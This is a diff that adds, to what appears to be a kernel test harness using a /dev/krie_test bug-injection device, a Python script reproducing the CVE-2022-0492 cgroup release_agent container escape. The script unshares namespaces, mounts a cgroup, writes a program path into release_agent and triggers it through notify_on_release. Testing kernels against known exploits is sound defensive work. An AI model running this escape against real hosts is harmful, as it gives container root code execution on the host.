@@ -63,3 +63,43 @@ for round in range(rounds):
 print(json.dumps(answers))
 """
 """CVE-2023-0386: a set-uid file that one's own server says is root's is copied from FUSE to a real file system."""
+
+RELEASE_AGENT = """
+import collections, ctypes, errno, json, os, sys
+rounds, folder, bug, hierarchy, program = int(sys.argv[1]), *sys.argv[2:]
+libc = ctypes.CDLL(None, use_errno=True)
+device = os.open("/dev/krie_test", os.O_WRONLY)
+if bug:
+    os.write(device, f"bug {bug}".encode())
+only = 1 << 31                                              # CAP_SETFCAP, as containers have: for root in uid_map
+header, data = (ctypes.c_uint * 2)(0x20080522, 0), (ctypes.c_uint * 6)(only, only, 0, 0, 0, 0)
+assert not libc.syscall(126, header, data), ctypes.get_errno()  # capset
+assert not libc.unshare(0x12020000), ctypes.get_errno()     # CLONE_NEWUSER | CLONE_NEWCGROUP | CLONE_NEWNS
+for name, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
+    with open(f"/proc/self/{name}", "w") as file:
+        file.write(text)
+assert not libc.mount(b"none", folder.encode(), b"cgroup", 0, hierarchy.encode()), ctypes.get_errno()
+answers = collections.Counter()
+for round in range(rounds):
+    try:
+        agent = os.open(f"{folder}/release_agent", os.O_WRONLY)
+        try:
+            os.write(agent, program.encode())
+        finally:
+            os.close(agent)
+        answers["done"] += 1
+    except OSError as error:
+        answers[errno.errorcode[error.errno]] += 1
+if answers["done"]:                                         # have a group be empty, which has it run
+    os.mkdir(f"{folder}/emptied")
+    with open(f"{folder}/emptied/notify_on_release", "w") as file:
+        file.write("1")
+    child = os.fork()
+    if not child:
+        with open(f"{folder}/emptied/cgroup.procs", "w") as file:
+            file.write("0")
+        os._exit(0)
+    os.waitpid(child, 0)
+print(json.dumps(answers))
+"""
+"""CVE-2022-0492: root of a container without CAP_SYS_ADMIN, in a user namespace of its own, names a program."""
